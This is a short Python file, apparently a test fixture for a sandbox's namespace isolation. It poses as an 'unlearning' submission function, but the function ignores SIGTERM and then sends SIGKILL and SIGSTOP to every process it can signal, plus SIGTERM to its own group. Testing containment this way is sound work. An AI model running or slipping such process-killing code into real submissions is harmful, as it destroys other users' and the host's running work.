"""Kills everything that it may signal, its own process group and all groups."""

import os
import signal

LAYER = "namespaces"
EXPECTED = "ok"


def unlearning(net, retain, forget, validation):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for target, number in ((-1, signal.SIGKILL), (-1, signal.SIGSTOP), (0, signal.SIGTERM)):
        try:
            os.kill(target, number)
        except OSError:
            continue
